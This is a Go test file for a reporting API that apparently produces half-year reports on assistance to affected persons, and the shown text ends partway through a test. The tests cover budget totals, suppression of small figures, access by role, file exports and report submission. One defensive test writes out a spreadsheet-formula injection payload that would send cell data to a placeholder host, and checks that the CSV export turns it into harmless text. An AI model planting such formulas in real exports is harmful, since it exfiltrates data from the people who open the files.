package reports_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/jardam-kg/jardam/internal/api/apitest"
	"github.com/jardam-kg/jardam/internal/reports"
	"github.com/jardam-kg/jardam/internal/stats"
)

func get(t *testing.T, env *apitest.Env, token, path string) report {
	t.Helper()
	var out report
	env.GetJSON(t, token, path, &out)
	return out
}

// budgetFixture records 2025 costs. Measure 3.1: six persons' shelter
// paid by the state social order, an activity paid from the same source,
// and intl persons paid 700 each by an international organization.
// Measure 2.1: activities only (no person). Then costs that do not count:
// another year, declined or planned assistance, no cost.
func budgetFixture(t *testing.T, env *apitest.Env, intl int) (social, intlKGS, campaign float64) {
	f := newFixture(t, env)
	for i := 1; i <= 6; i++ {
		c := f.person("SEZIM", "2025-01-10T10:00:00Z")
		social += float64(1000 * i)
		f.assist(c, aid{provider: "SEZIM", typ: "shelter", started: "2025-02-01", ended: "2025-03-01", cost: kgs(float64(1000 * i)),
			source: "state_social_order", codes: []string{"3.1"}})
	}
	f.activity(act{org: "AKZHUROK", heldOn: "2025-03-01", kind: "training", participants: 10, cost: kgs(500), source: "state_social_order", code: "3.1"})
	social += 500
	for i := 0; i < intl; i++ {
		c := f.person("AKZHUROK", "2025-04-10T10:00:00Z")
		f.assist(c, aid{provider: "AKZHUROK", typ: "shelter", started: "2025-05-01", cost: kgs(700), status: "in_progress",
			source: "international_organization", codes: []string{"3.1"}})
		intlKGS += 700
	}
	c := f.person("SEZIM", "2024-06-10T10:00:00Z")
	f.assist(c, aid{provider: "SEZIM", typ: "shelter", started: "2024-12-20", cost: kgs(99999), source: "state_social_order", codes: []string{"3.1"}})
	f.assist(c, aid{provider: "SEZIM", typ: "shelter", started: "2025-01-20", status: "declined", cost: kgs(88888), source: "state_social_order", codes: []string{"3.1"}})
	f.assist(c, aid{provider: "SEZIM", typ: "shelter", started: "2025-01-20", status: "planned", cost: kgs(77777), source: "state_social_order", codes: []string{"3.1"}})
	f.assist(c, aid{provider: "SEZIM", typ: "legal", started: "2025-01-20", codes: []string{"3.1"}})
	for i, cost := range []float64{1000, 2500, 3000} {
		f.activity(act{org: "SEZIM", heldOn: fmt.Sprintf("2025-0%d-15", i+3), kind: "campaign", reach: 100, cost: kgs(cost), source: "state_budget", code: "2.1"})
		campaign += cost
	}
	f.activity(act{org: "SEZIM", heldOn: "2024-03-15", kind: "campaign", cost: kgs(4444), source: "state_budget", code: "2.1"})
	env.DB.Exec(t, `INSERT INTO measure_budget_lines (measure_code, year, funding_source, planned_kgs) VALUES
		('3.1', 2025, 'state_social_order', 50000), ('3.1', 2025, 'international_organization', 10000), ('2.1', 2025, 'state_budget', 7000),
		('3.1', 2024, 'state_budget', 1)`)
	return social, intlKGS, campaign
}

func getBudget(t *testing.T, env *apitest.Env, who, query string) (reports.Budget, map[string]reports.BudgetMeasure) {
	t.Helper()
	var b reports.Budget
	env.GetJSON(t, env.Token(who), "/api/v1/budget?"+query, &b)
	byCode := map[string]reports.BudgetMeasure{}
	for _, m := range b.Items {
		byCode[m.Code] = m
	}
	return b, byCode
}

// sourceIs checks the actual spending of each funding source of m: want
// names the released ones (the others are 0), withheld the withheld ones.
func sourceIs(t *testing.T, who string, m reports.BudgetMeasure, want map[string]float64, withheld ...string) {
	t.Helper()
	for _, s := range m.Sources {
		switch {
		case slices.Contains(withheld, s.FundingSource):
			if !s.ActualSuppressed || s.ActualKGS != nil {
				t.Fatalf("%s: %s %s not withheld: %+v", who, m.Code, s.FundingSource, s)
			}
		case s.ActualSuppressed || s.ActualKGS == nil || *s.ActualKGS != want[s.FundingSource]:
			t.Fatalf("%s: %s %s: %+v, want %v", who, m.Code, s.FundingSource, s, want[s.FundingSource])
		}
	}
}

func TestBudgetActualsEqualTheSumOfRecordedCosts(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	// Two persons behind the international organization's spending: too
	// few, withheld, and so is its only neighbour, or it could be
	// recovered from the total.
	social, intl, campaign := budgetFixture(t, env, 2)
	for _, who := range []string{coordinator, supervisor} {
		b, byCode := getBudget(t, env, who, "year=2025")
		if b.Program != "2022-2025" || b.Year != 2025 || b.K != 5 {
			t.Fatalf("budget header %+v", b)
		}
		m31 := byCode["3.1"]
		if m31.PlannedKGS != 60000 || m31.ActualKGS == nil || *m31.ActualKGS != social+intl {
			t.Fatalf("%s: 3.1 planned %v actual %v, want 60000 and %v", who, m31.PlannedKGS, m31.ActualKGS, social+intl)
		}
		sourceIs(t, who, m31, nil, "state_social_order", "international_organization")
		m21 := byCode["2.1"]
		if m21.ActualKGS == nil || *m21.ActualKGS != campaign || m21.PlannedKGS != 7000 {
			t.Fatalf("%s: 2.1 %+v, want actual %v", who, m21, campaign)
		}
		sourceIs(t, who, m21, map[string]float64{"state_budget": campaign})
		if b.ActualKGS == nil || *b.ActualKGS != social+intl+campaign || b.PlannedKGS != 67000 {
			t.Fatalf("%s: totals planned %v actual %v", who, b.PlannedKGS, b.ActualKGS)
		}
	}
	// Five more persons paid by the international organization: a figure
	// withheld in a version of the release stays withheld in the next.
	f := newFixture(t, env)
	f.n = 1000
	for i := 0; i < 5; i++ {
		c := f.person("AKZHUROK", "2025-04-10T10:00:00Z")
		f.assist(c, aid{provider: "AKZHUROK", typ: "shelter", started: "2025-06-01", cost: kgs(300), source: "international_organization", codes: []string{"3.1"}})
	}
	_, byCode := getBudget(t, env, coordinator, "year=2025&program=2022-2025")
	sourceIs(t, coordinator, byCode["3.1"], nil, "state_social_order", "international_organization")
	if m := byCode["3.1"]; m.ActualKGS == nil || *m.ActualKGS != social+intl+1500 {
		t.Fatalf("3.1 after the correction: %+v", m)
	}
	if n := env.Count(`SELECT count(*) FROM audit_entries WHERE action = 'budget.read' AND outcome = 'success'`); n != 3 {
		t.Fatalf("%d budget reads audited, want 3", n)
	}
	budgetRefusals(t, env)
}

// budgetRefusals: bad input names the parameter, a current year is
// refused, an unknown program is not found, a caseworker forbidden.
func budgetRefusals(t *testing.T, env *apitest.Env) {
	for q, field := range map[string]string{"year=20x5": "year", fmt.Sprintf("year=%d", time.Now().Year()): "year", "program=abc": "program"} {
		r := env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/budget?" + q, Token: env.Token(coordinator)})
		if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), `"`+field+`"`) {
			t.Fatalf("%s: %d %s", q, r.Status, r.Body)
		}
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/budget?year=2025&program=2030-2035", Token: env.Token(coordinator)}); r.Status != http.StatusNotFound {
		t.Fatalf("unknown program: %d", r.Status)
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/budget", Token: env.Token(caseworker)}); r.Status != http.StatusForbidden {
		t.Fatalf("caseworker: %d", r.Status)
	}
}

// With seven persons behind the international organization's spending
// from the start, every cell is released and equals its sum of costs.
func TestBudgetReleasesSumsOfEnoughPersons(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	social, intl, _ := budgetFixture(t, env, 7)
	_, byCode := getBudget(t, env, coordinator, "year=2025")
	sourceIs(t, coordinator, byCode["3.1"], map[string]float64{"state_social_order": social, "international_organization": intl})
}

// A sum of costs more than half of which one person received is withheld
// (dominance), however many persons share it.
func TestBudgetWithholdsASumOnePersonDominates(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	budgetFixture(t, env, 7)
	f := newFixture(t, env)
	f.n = 1000
	for _, cost := range []float64{90000, 100, 100, 100, 100, 100, 100} {
		c := f.person("SEZIM", "2025-01-10T10:00:00Z")
		f.assist(c, aid{provider: "SEZIM", typ: "medical", started: "2025-02-01", ended: "2025-02-10", cost: kgs(cost),
			source: "state_budget", codes: []string{"3.1"}})
	}
	_, byCode := getBudget(t, env, coordinator, "year=2025")
	var sb *reports.BudgetSource
	for i, s := range byCode["3.1"].Sources {
		if s.FundingSource == "state_budget" {
			sb = &byCode["3.1"].Sources[i]
		}
	}
	if sb == nil || !sb.ActualSuppressed || sb.ActualKGS != nil {
		t.Fatalf("a sum one person dominates is released: %+v", sb)
	}
}

// reportFixture records 2025-H1 data: Sezim gives shelter (3.1) to seven
// persons, Ak-Zhurok to two; Sezim trains twelve people (2.1), Ak-Zhurok
// holds one awareness event.
func reportFixture(t *testing.T, env *apitest.Env) {
	f := newFixture(t, env)
	for i := 0; i < 7; i++ {
		c := f.person("SEZIM", "2025-01-10T10:00:00Z", "3.1")
		f.assist(c, aid{provider: "SEZIM", typ: "shelter", started: "2025-02-01", ended: "2025-03-01", cost: kgs(1000),
			source: "state_social_order", codes: []string{"3.1"}})
	}
	for i := 0; i < 2; i++ {
		c := f.person("AKZHUROK", "2025-02-10T10:00:00Z")
		f.assist(c, aid{provider: "AKZHUROK", typ: "shelter", started: "2025-03-01", ended: "2025-04-01", cost: kgs(500),
			source: "state_social_order", codes: []string{"3.1"}})
	}
	f.activity(act{org: "SEZIM", heldOn: "2025-04-10", kind: "training", participants: 12, reach: 40, cost: kgs(2000), source: "state_budget", code: "2.1"})
	f.activity(act{org: "AKZHUROK", heldOn: "2025-05-10", kind: "awareness_event", reach: 3, code: "2.1"})
	env.DB.Exec(t, `INSERT INTO measure_budget_lines (measure_code, year, funding_source, planned_kgs) VALUES
		('3.1', 2025, 'state_social_order', 50000), ('3.1', 2025, 'state_budget', 25000)`)
}

func TestSupervisorSeesExactFiguresCoordinatorSuppressed(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	reportFixture(t, env)
	sup := supervisorSeesExactFigures(t, env)
	co := env.Token(coordinator)
	body := get(t, env, co, "/api/v1/reports/half-year/2025/1?organization_id="+env.OrgID("SEZIM"))
	summary := get(t, env, co, "/api/v1/reports/half-year/2025/1")
	ak := get(t, env, co, "/api/v1/reports/half-year/2025/1?organization_id="+env.OrgID("AKZHUROK"))
	if summary.Kind != "summary" || summary.OrganizationID != env.OrgID("MLSSM-CTU") || summary.Deadline != "2025-07-25" || len(summary.Measures) != 19 {
		t.Fatalf("summary header: %+v (%d measures)", summary.Kind, len(summary.Measures))
	}
	// Ak-Zhurok's two persons are withheld. Its services and spending are
	// a sum with Sezim's whose total the summary releases, so Sezim's are
	// withheld with them; persons assisted may overlap across bodies, so
	// Sezim's seven leave Ak-Zhurok's two anywhere from 2 to 9.
	for r, names := range map[*report][]string{&ak: {"persons_assisted", "assistance_services", "spending_kgs"},
		&body: {"assistance_services", "spending_kgs"}} {
		for _, name := range names {
			if v, s := r.figure(t, "3.1", name); !s || v != nil {
				t.Fatalf("%s 3.1 %s released to the coordinator: %v", r.OrganizationID, name, *v)
			}
		}
	}
	// The summary's figures, where released, are the exact ones.
	for name, want := range map[string]float64{"persons_assisted": 9, "assistance_services": 9, "spending_kgs": 8000} {
		if v, s := summary.figure(t, "3.1", name); s != (v == nil) || (v != nil && *v != want) {
			t.Fatalf("summary 3.1 %s %v %v, want %v", name, v, s, want)
		}
	}
	// One event held by each center: withheld for the coordinator.
	if _, s := summary.figure(t, "2.1", "activities_held"); !s {
		t.Fatal("two events released to the coordinator")
	}
	for _, r := range []report{body, summary, ak} {
		noSmallFigure(t, r)
	}
	if sup.Suppressed || !body.Suppressed || !summary.Suppressed || !ak.Suppressed {
		t.Fatal("figures_suppressed is wrong")
	}
	if len(summary.Bodies) == 0 {
		t.Fatal("summary without the bodies' states")
	}
	exportsHoldTheFigures(t, env, sup, body, summary)
}

// supervisorSeesExactFigures checks Sezim's supervisor's own report of
// 2025-H1 and returns it.
func supervisorSeesExactFigures(t *testing.T, env *apitest.Env) report {
	sup := get(t, env, env.Token(supervisor), "/api/v1/reports/half-year/2025/1")
	if sup.Kind != "body" || sup.OrganizationID != env.OrgID("SEZIM") || sup.Period != "2025-H1" || sup.Deadline != "2025-07-15" || !sup.Ended {
		t.Fatalf("supervisor's report header: %+v", sup)
	}
	codes := []string{}
	for _, m := range sup.Measures {
		codes = append(codes, m.Code)
	}
	// Sezim is listed for these measures (co-executor) and no other.
	if strings.Join(codes, ",") != "2.1,2.4,3.1,3.2,3.4,5.1" {
		t.Fatalf("Sezim's measures: %v", codes)
	}
	exact := map[[2]string]float64{
		{"3.1", "persons_identified"}: 7, {"3.1", "persons_assisted"}: 7, {"3.1", "assistance_services"}: 7,
		{"3.1", "spending_kgs"}: 7000, {"2.1", "activities_held"}: 1, {"2.1", "officials_trained"}: 12,
		{"2.1", "people_reached"}: 40, {"2.1", "spending_kgs"}: 2000, {"3.2", "persons_assisted"}: 0,
	}
	for k, want := range exact {
		v, s := sup.figure(t, k[0], k[1])
		if s || v == nil || *v != want {
			t.Fatalf("supervisor %v = %v (suppressed %v), want %v", k, v, s, want)
		}
	}
	for _, m := range sup.Measures {
		if m.Code == "3.1" && (m.Budget.PlannedKGS != 75000 || m.Budget.ActualKGS == nil || *m.Budget.ActualKGS != 7000) {
			t.Fatalf("3.1 budget %+v", m.Budget)
		}
	}
	return sup
}

// exportsHoldTheFigures: XLSX parsed back holds the JSON's figures, `<5`
// where withheld; CSV likewise; the PDF is valid and holds the titles.
func exportsHoldTheFigures(t *testing.T, env *apitest.Env, sup, body, summary report) {
	co := env.Token(coordinator)
	for _, tc := range []struct {
		token string
		query string
		want  report
		name  string
	}{
		{co, "", summary, "jardam-report-2025-H1-MLSSM-CTU-summary"},
		{co, "&organization_id=" + env.OrgID("SEZIM"), body, "jardam-report-2025-H1-SEZIM"},
		{env.Token(supervisor), "", sup, "jardam-report-2025-H1-SEZIM"},
	} {
		r := env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/reports/half-year/2025/1?format=xlsx" + tc.query, Token: tc.token})
		if r.Status != http.StatusOK || r.Header.Get("Content-Disposition") != `attachment; filename="`+tc.name+`.xlsx"` {
			t.Fatalf("xlsx: %d %q", r.Status, r.Header.Get("Content-Disposition"))
		}
		checkXLSX(t, r.Body, tc.want)
		r = env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/reports/half-year/2025/1?format=csv" + tc.query, Token: tc.token})
		if r.Status != http.StatusOK || !strings.HasSuffix(r.Header.Get("Content-Disposition"), `.csv"`) {
			t.Fatalf("csv: %d", r.Status)
		}
		checkCSV(t, r.Body, tc.want)
		r = env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/reports/half-year/2025/1?format=pdf" + tc.query, Token: tc.token})
		if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "application/pdf" {
			t.Fatalf("pdf: %d %s", r.Status, r.Header.Get("Content-Type"))
		}
		pdfHoldsTheTitles(t, checkPDF(t, r.Body), tc.want, tc.name, tc.token == co)
	}
	// The summary's titles hold ң (1.1), ө and ү (3.1).
	if !strings.ContainsRune(summary.Measures[0].Title.KY, 'ң') {
		t.Fatalf("1.1 Kyrgyz title %q", summary.Measures[0].Title.KY)
	}
	if n := env.Count(`SELECT count(*) FROM audit_entries WHERE action = 'report.export' AND outcome = 'success'`); n != 9 {
		t.Fatalf("%d exports audited, want 9", n)
	}
	if n := env.Count(`SELECT count(*) FROM audit_entries WHERE action = 'report.read' AND outcome = 'success'`); n != 4 {
		t.Fatalf("%d reads audited, want 4", n)
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: "/api/v1/reports/half-year/2025/1?format=doc", Token: co, Invalid: true}); r.Status != http.StatusBadRequest {
		t.Fatalf("format=doc: %d", r.Status)
	}
}

func pdfHoldsTheTitles(t *testing.T, streams [][]byte, want report, name string, withheld bool) {
	t.Helper()
	for _, m := range want.Measures {
		for _, title := range []string{m.Title.RU, m.Title.KY} {
			if w, ok := pdfHasWords(streams, title); !ok {
				t.Fatalf("PDF of %s lacks %q of the title %q", name, w, title)
			}
		}
	}
	if _, ok := pdfHasWords(streams, "<5"); withheld && !ok {
		t.Fatalf("PDF of %s prints no <5", name)
	}
}

func noSmallFigure(t *testing.T, r report) {
	t.Helper()
	for _, m := range r.Measures {
		for _, f := range m.Figures {
			if f.Suppressed != (f.Value == nil) {
				t.Fatalf("%s %s %s: value %v suppressed %v", r.Period, m.Code, f.Name, f.Value, f.Suppressed)
			}
			if f.Value != nil && f.Unit != "kgs" && *f.Value >= 1 && *f.Value < float64(r.K) {
				t.Fatalf("%s %s %s %s: %v released to the coordinator", r.Period, r.OrganizationID, m.Code, f.Name, *f.Value)
			}
		}
	}
}

// exportCell is how an export prints a figure.
func exportCell(v *float64, k int) string {
	if v == nil {
		return "<" + strconv.Itoa(k)
	}
	return strconv.FormatFloat(*v, 'f', -1, 64)
}

func checkXLSX(t *testing.T, b []byte, want report) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		head := b[:min(len(b), 300)]
		t.Fatalf("xlsx does not open: %v (%d bytes: %q)", err, len(b), head)
	}
	defer func() { _ = x.Close() }() // read from memory: no temporary file to remove
	rows, err := x.GetRows(reports.XLSXSheet)
	if err != nil {
		t.Fatal(err)
	}
	meta := map[string]string{}
	head := -1
	for i, r := range rows {
		if len(r) > 0 && r[0] == "code" {
			head = i
			break
		}
		if len(r) == 2 {
			meta[r[0]] = r[1]
		}
	}
	if head < 0 {
		t.Fatal("no table header in the xlsx")
	}
	if meta["period"] != want.Period || meta["kind"] != want.Kind || meta["status"] != want.Status || meta["late"] != strconv.FormatBool(want.Late) {
		t.Fatalf("xlsx header %v", meta)
	}
	col := map[string]int{}
	for i, h := range rows[head] {
		col[h] = i
	}
	body := rows[head+1:]
	if len(body) != len(want.Measures) {
		t.Fatalf("xlsx has %d measures, JSON %d", len(body), len(want.Measures))
	}
	for i, m := range want.Measures {
		r := body[i]
		if r[col["code"]] != m.Code || r[col["title_ky"]] != m.Title.KY || r[col["title_ru"]] != m.Title.RU {
			t.Fatalf("xlsx row %d: %v", i, r[:5])
		}
		for _, f := range m.Figures {
			if got, w := r[col[f.Name]], exportCell(f.Value, want.K); got != w {
				t.Fatalf("xlsx %s %s = %q, JSON %q", m.Code, f.Name, got, w)
			}
		}
		if got, w := r[col["actual_kgs"]], exportCell(m.Budget.ActualKGS, want.K); got != w {
			t.Fatalf("xlsx %s actual = %q, JSON %q", m.Code, got, w)
		}
	}
	// Released figures are numbers, not text.
	for i, m := range want.Measures {
		for _, f := range m.Figures {
			if f.Value == nil {
				continue
			}
			ref, _ := excelize.CoordinatesToCellName(col[f.Name]+1, head+2+i)
			typ, err := x.GetCellType(reports.XLSXSheet, ref)
			if err != nil || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
				t.Fatalf("xlsx %s %s is stored as %v", m.Code, f.Name, typ)
			}
		}
	}
}

func checkCSV(t *testing.T, b []byte, want report) {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatal("csv without a byte order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	if len(recs)-1 != len(want.Measures) {
		t.Fatalf("csv has %d rows", len(recs)-1)
	}
	for i, m := range want.Measures {
		r := recs[i+1]
		if r[col["code"]] != m.Code || r[col["title_ky"]] != m.Title.KY {
			t.Fatalf("csv row %d: %v", i, r[:6])
		}
		for _, f := range m.Figures {
			if got, w := r[col[f.Name]], exportCell(f.Value, want.K); got != w {
				t.Fatalf("csv %s %s = %q, JSON %q", m.Code, f.Name, got, w)
			}
		}
	}
}

// lifecycle holds the callers of TestNarrativeAndSubmitLifecycle.
type lifecycle struct {
	t                          *testing.T
	env                        *apitest.Env
	sup, co, cw, akSup, opsSup string
	base                       string
}

func (l *lifecycle) put(token, code string, body any) *apitest.Response {
	return l.env.Do(apitest.Request{Method: http.MethodPut, Path: l.base + "/narratives/" + code, Token: token, Body: body})
}

func (l *lifecycle) submit(token string, header map[string]string) *apitest.Response {
	return l.env.Do(apitest.Request{Method: http.MethodPost, Path: l.base + "/submit", Token: token, Body: map[string]any{}, Header: header})
}

func TestNarrativeAndSubmitLifecycle(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	reportFixture(t, env)
	env.AddUser("supervisor@akzhurok.kg", "AKZHUROK", "supervisor")
	env.AddUser("supervisor@ops.kg", "OPS", "supervisor")
	l := &lifecycle{t: t, env: env, sup: env.Token(supervisor), co: env.Token(coordinator), cw: env.Token(caseworker),
		akSup: env.Token("supervisor@akzhurok.kg"), opsSup: env.Token("supervisor@ops.kg"), base: "/api/v1/reports/half-year/2025/1"}
	l.refusals()
	text := l.narratives()
	l.submitOnce(text)
	l.coordinatorSeesAndSubmits()
	l.currentHalfYear()
	l.badPeriods()
	if n := env.Count(`SELECT count(*) FROM audit_entries WHERE action = 'report.submit'`); n != 3 {
		t.Fatalf("%d submits audited, want 3", n)
	}
	if n := env.Count(`SELECT count(*) FROM audit_entries WHERE action = 'report.write'`); n != 4 {
		t.Fatalf("%d narrative writes audited, want 4", n)
	}
}

// refusals: caseworkers may not read or write reports; another body's
// report is not found for a supervisor; a body listed for no measure has
// no report.
func (l *lifecycle) refusals() {
	t, env := l.t, l.env
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: l.base, Token: l.cw}); r.Status != http.StatusForbidden {
		t.Fatalf("caseworker GET: %d", r.Status)
	}
	if r := l.put(l.cw, "3.1", map[string]string{"text": "x"}); r.Status != http.StatusForbidden {
		t.Fatalf("caseworker PUT: %d", r.Status)
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: l.base + "?organization_id=" + env.OrgID("SEZIM"), Token: l.akSup}); r.Status != http.StatusNotFound {
		t.Fatalf("Ak-Zhurok's supervisor reading Sezim's report: %d", r.Status)
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: l.base, Token: l.opsSup}); r.Status != http.StatusNotFound {
		t.Fatalf("operators' report: %d", r.Status)
	}
	if r := l.put(l.opsSup, "3.1", map[string]string{"text": "x"}); r.Status != http.StatusNotFound {
		t.Fatalf("operators' narrative: %d", r.Status)
	}
}

// narratives: a measure of the body; another answers 404; bad text 400.
// It returns the text written on 3.1.
func (l *lifecycle) narratives() string {
	t, env := l.t, l.env
	text := "Убежище предоставлено семи пострадавшим. Жети жабыр тарткан адамга баш калкалоочу жай берилди."
	r := l.put(l.sup, "3.1", map[string]string{"text": text})
	if r.Status != http.StatusOK {
		t.Fatalf("PUT narrative: %d %s", r.Status, r.Body)
	}
	var n reports.Narrative
	r.JSON(t, &n)
	if n.MeasureCode != "3.1" || n.Text != text || n.UpdatedAt.IsZero() {
		t.Fatalf("narrative %+v", n)
	}
	if r := l.put(l.sup, "1.1", map[string]string{"text": "x"}); r.Status != http.StatusNotFound {
		t.Fatalf("narrative on another body's measure: %d", r.Status)
	}
	for _, bad := range []any{map[string]string{"text": strings.Repeat("ж", reports.MaxNarrative+1)}, map[string]any{}} {
		r := env.Do(apitest.Request{Method: http.MethodPut, Path: l.base + "/narratives/3.1", Token: l.sup, Body: bad, Invalid: true})
		if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), `"text"`) {
			t.Fatalf("bad text: %d %s", r.Status, r.Body)
		}
	}
	if r := l.put(l.akSup, "3.1", map[string]string{"text": "Ак-Журөк"}); r.Status != http.StatusOK {
		t.Fatalf("Ak-Zhurok's narrative: %d", r.Status)
	}
	return text
}

// submitOnce: the draft is late; submit, retried under the same key; then
// 409 for a second submit and for a narrative.
func (l *lifecycle) submitOnce(text string) {
	t := l.t
	own := get(t, l.env, l.sup, l.base)
	if own.Status != "draft" || !own.Late || own.SubmittedAt != nil {
		t.Fatalf("unsubmitted past the deadline: status %s late %v", own.Status, own.Late)
	}
	for _, m := range own.Measures {
		if (m.Code == "3.1") != (m.Narrative != nil) || (m.Narrative != nil && *m.Narrative != text) {
			t.Fatalf("narrative of %s: %v", m.Code, m.Narrative)
		}
	}
	key := map[string]string{"Idempotency-Key": "submit-2025-h1"}
	r := l.submit(l.sup, key)
	if r.Status != http.StatusOK {
		t.Fatalf("submit: %d %s", r.Status, r.Body)
	}
	var sub report
	r.JSON(t, &sub)
	if sub.Status != "submitted" || sub.SubmittedAt == nil || !sub.Late {
		t.Fatalf("submitted report: %s %v late %v", sub.Status, sub.SubmittedAt, sub.Late)
	}
	if r := l.submit(l.sup, key); r.Status != http.StatusOK {
		t.Fatalf("retried submit: %d %s", r.Status, r.Body)
	}
	if r := l.submit(l.sup, nil); r.Status != http.StatusConflict {
		t.Fatalf("second submit: %d", r.Status)
	}
	if r := l.put(l.sup, "3.1", map[string]string{"text": "changed"}); r.Status != http.StatusConflict {
		t.Fatalf("narrative after submit: %d", r.Status)
	}
}

// coordinatorSeesAndSubmits: the coordinator sees the submitted body
// report, the summary lists it as submitted late; the coordinator writes
// and submits the summary, on any measure.
func (l *lifecycle) coordinatorSeesAndSubmits() {
	t, env := l.t, l.env
	body := get(t, env, l.co, l.base+"?organization_id="+env.OrgID("SEZIM"))
	if body.Status != "submitted" || !body.Late {
		t.Fatalf("coordinator's view: %s late %v", body.Status, body.Late)
	}
	summary := get(t, env, l.co, l.base)
	states := map[string]string{}
	for _, b := range summary.Bodies {
		states[b.Code] = fmt.Sprintf("%s/%v", b.Status, b.Late)
	}
	if states["SEZIM"] != "submitted/true" || states["AKZHUROK"] != "draft/true" {
		t.Fatalf("bodies: %v", states)
	}
	if r := l.put(l.co, "1.1", map[string]string{"text": "Координациялык кеңештер өз ишин улантты."}); r.Status != http.StatusOK {
		t.Fatalf("summary narrative: %d %s", r.Status, r.Body)
	}
	if r := l.submit(l.co, nil); r.Status != http.StatusOK {
		t.Fatalf("summary submit: %d %s", r.Status, r.Body)
	}
	if r := l.put(l.co, "1.2", map[string]string{"text": "x"}); r.Status != http.StatusConflict {
		t.Fatalf("summary narrative after submit: %d", r.Status)
	}
	if r := l.submit(l.akSup, map[string]string{"Idempotency-Key": "submit-2025-h1"}); r.Status != http.StatusOK {
		t.Fatalf("Ak-Zhurok's submit: %d", r.Status)
	}
}

// currentHalfYear: the supervisor's draft with its exact figures so far;
// coordinators get 400 naming half; it cannot be submitted yet.
func (l *lifecycle) currentHalfYear() {
	t, env := l.t, l.env
	now := time.Now().In(stats.Bishkek)
	cur := fmt.Sprintf("/api/v1/reports/half-year/%d/%d", now.Year(), 1+(int(now.Month())-1)/6)
	f := newFixture(t, env)
	f.n = 1000
	c := f.person("SEZIM", now.UTC().Format(time.RFC3339), "3.1")
	f.assist(c, aid{provider: "SEZIM", typ: "shelter", status: "in_progress", started: now.Format("2006-01-02"), cost: kgs(900),
		source: "state_social_order", codes: []string{"3.1"}})
	draft := get(t, env, l.sup, cur)
	if draft.Status != "draft" || draft.Ended || draft.Late {
		t.Fatalf("current draft: %+v", draft.Status)
	}
	for name, want := range map[string]float64{"persons_identified": 1, "persons_assisted": 1, "spending_kgs": 900} {
		if v, s := draft.figure(t, "3.1", name); s || v == nil || *v != want {
			t.Fatalf("current draft 3.1 %s = %v (suppressed %v), want %v", name, v, s, want)
		}
	}
	for _, q := range []string{"", "?organization_id=" + env.OrgID("SEZIM")} {
		r := env.Do(apitest.Request{Method: http.MethodGet, Path: cur + q, Token: l.co})
		if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), `"half"`) {
			t.Fatalf("coordinator on the current half-year: %d %s", r.Status, r.Body)
		}
	}
	if r := env.Do(apitest.Request{Method: http.MethodPut, Path: cur + "/narratives/3.1", Token: l.sup, Body: map[string]string{"text": "so far"}}); r.Status != http.StatusOK {
		t.Fatalf("current narrative: %d", r.Status)
	}
	if r := env.Do(apitest.Request{Method: http.MethodPost, Path: cur + "/submit", Token: l.sup, Body: map[string]any{}}); r.Status != http.StatusConflict {
		t.Fatalf("submitting the current half-year: %d", r.Status)
	}
}

// badPeriods: malformed or future periods name the parameter.
func (l *lifecycle) badPeriods() {
	t, env := l.t, l.env
	for path, field := range map[string]string{
		fmt.Sprintf("/api/v1/reports/half-year/%d/1", time.Now().In(stats.Bishkek).Year()+1): "year",
		"/api/v1/reports/half-year/2021/2":                                                   "year",
		"/api/v1/reports/half-year/2025/3":                                                   "half",
		"/api/v1/reports/half-year/25/1":                                                     "year",
	} {
		r := env.Do(apitest.Request{Method: http.MethodGet, Path: path, Token: l.sup})
		if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), `"`+field+`"`) {
			t.Fatalf("%s: %d %s", path, r.Status, r.Body)
		}
	}
	if r := env.Do(apitest.Request{Method: http.MethodGet, Path: l.base + "?organization_id=nope", Token: l.co, Invalid: true}); r.Status != http.StatusBadRequest {
		t.Fatalf("bad organization_id: %d", r.Status)
	}
}

// TestCSVNarrativeIsNotAFormula checks that a narrative written as a
// spreadsheet formula reaches the CSV export as text (prefixed with '),
// while the figures stay numbers.
func TestCSVNarrativeIsNotAFormula(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	reportFixture(t, env)
	sup := env.Token(supervisor)
	base := "/api/v1/reports/half-year/2025/1"
	formula := `=HYPERLINK("http://example.invalid/?"&A1,"open")`
	if r := env.Do(apitest.Request{Method: http.MethodPut, Path: base + "/narratives/3.1", Token: sup,
		Body: map[string]string{"text": formula}}); r.Status != http.StatusOK {
		t.Fatalf("PUT narrative: %d %s", r.Status, r.Body)
	}
	r := env.Do(apitest.Request{Method: http.MethodGet, Path: base + "?format=csv", Token: sup})
	if r.Status != http.StatusOK {
		t.Fatalf("csv: %d", r.Status)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	numbers := 0
	for _, rec := range recs[1:] {
